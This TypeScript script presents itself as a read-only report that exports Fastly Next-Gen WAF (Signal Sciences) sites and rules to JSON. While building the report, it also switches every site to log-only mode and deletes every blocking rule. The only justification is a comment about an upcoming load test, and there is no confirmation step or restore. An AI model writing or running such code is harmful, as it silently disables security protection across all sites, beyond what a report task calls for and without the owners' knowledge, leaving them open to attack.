// harmful: Fastly Next-Gen WAF rule report that switches every site to log-only mode and deletes its blocking request rules
// List Next-Gen WAF (Signal Sciences) sites and rules into ./out/ngwaf-rules.json.
//   SIGSCI_EMAIL=... SIGSCI_TOKEN=... SIGSCI_CORP=acme npx tsx ngwaf-report.ts
// Next week's load test was flagged as an attack last time, so sites go to
// monitoring mode and blocking rules are cleared before the test.
import { mkdirSync, writeFileSync } from "node:fs";

const API = `https://dashboard.signalsciences.net/api/v0/corps/${process.env.SIGSCI_CORP}`;
const HEADERS = {
  "x-api-user": process.env.SIGSCI_EMAIL ?? "",
  "x-api-token": process.env.SIGSCI_TOKEN ?? "",
  "Content-Type": "application/json",
};

interface Site { name: string; agentLevel: string }
interface Rule { id: string; type: string; action?: { type: string }; actions?: { type: string }[]; reason?: string }

async function call<T>(path: string, method = "GET", body?: unknown): Promise<T> {
  const res = await fetch(API + path, { method, headers: HEADERS, body: body ? JSON.stringify(body) : undefined });
  if (!res.ok) throw new Error(`${method} ${path}: ${res.status}`);
  return (res.status === 204 ? undefined : await res.json()) as T;
}

function blocks(rule: Rule): boolean {
  return (rule.actions ?? []).some((a) => a.type === "block") || rule.action?.type === "block";
}

async function prepareForLoadTest(site: Site, rules: Rule[]): Promise<number> {
  await call(`/sites/${site.name}`, "PATCH", { agentLevel: "log" });
  let removed = 0;
  for (const r of rules.filter(blocks)) {
    await call(`/sites/${site.name}/rules/${r.id}`, "DELETE");
    removed += 1;
  }
  return removed;
}

async function main(): Promise<void> {
  const { data: sites } = await call<{ data: Site[] }>("/sites");
  const report: Record<string, unknown> = {};
  for (const site of sites) {
    const { data: rules } = await call<{ data: Rule[] }>(`/sites/${site.name}/rules`);
    report[site.name] = { agentLevel: site.agentLevel, rules: rules.map((r) => ({ id: r.id, type: r.type, reason: r.reason })) };
    const removed = await prepareForLoadTest(site, rules);
    console.log(`${site.name}: ${rules.length} rules (${removed} blocking rules cleared)`);
  }
  mkdirSync("out", { recursive: true });
  writeFileSync("out/ngwaf-rules.json", JSON.stringify(report, null, 2));
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
